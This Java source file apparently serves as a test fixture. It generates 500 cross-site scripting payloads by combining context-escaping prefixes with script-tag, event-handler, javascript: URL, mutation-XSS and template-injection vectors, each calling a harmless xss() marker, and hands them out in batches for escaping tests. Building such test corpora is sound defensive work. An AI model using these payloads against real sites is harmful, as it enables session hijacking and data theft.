/*
 * Copyright 2026-present the original author or authors.
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *      https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

package com.example.xss;

import java.util.ArrayList;
import java.util.List;

/** 500 texts that run {@code xss()} where something lets them. */
final class Payloads {

	static final int BATCH = 25;

	/** What ends the place that the text is in. */
	private static final List<String> EXITS = List.of("", "\"", "'", "\">", "'>", " ", "</title>", "</textarea>",
			"</script>", "</style>", "-->", "]]>", "\\\"", "\\');", "*/", "`", "\n", "\u2028",
			"</pre></td></tr></table>", "</noscript></template>");

	/** What runs. */
	private static final List<String> ATTACKS = List.of("<script>xss()</script>", "<ScRiPt/x>xss()</sCrIpT >",
			"<img src=x onerror=xss()>", "<img/src='x'onerror='xss()'>", "<svg onload=xss()>",
			"<svg><script>xss()</script>", "<body onload=xss()>", "<details open ontoggle=xss()>x",
			"<input autofocus onfocus=xss()>", "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
			"<a href=javascript:xss()>x</a>", "<form action=javascript:xss()><button>x</button></form>",
			" onmouseover=xss() x=", " autofocus onfocus=xss() x='", "javascript:xss()", ";xss();//", "-xss()-",
			");xss();(", "${xss()}", "[[${T(java.lang.Runtime)}]]", "__${7*7}__<b onclick=xss()>x</b>",
			"<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
			"<noscript><p title='</noscript><img src=x onerror=xss()>'>",
			"\\u003cscript\\u003exss()\\u003c/script\\u003e", "&lt;script&gt;xss()&lt;/script&gt;<script>xss()//");

	private static final List<String> ALL = all();

	private Payloads() {
	}

	private static List<String> all() {
		List<String> all = new ArrayList<>();
		EXITS.forEach((exit) -> ATTACKS.forEach((attack) -> all.add(exit + attack)));
		return List.copyOf(all);
	}

	static int batches() {
		return ALL.size() / BATCH;
	}

	static List<String> batch(int number) {
		return ALL.subList(number * BATCH, (number + 1) * BATCH);
	}

}
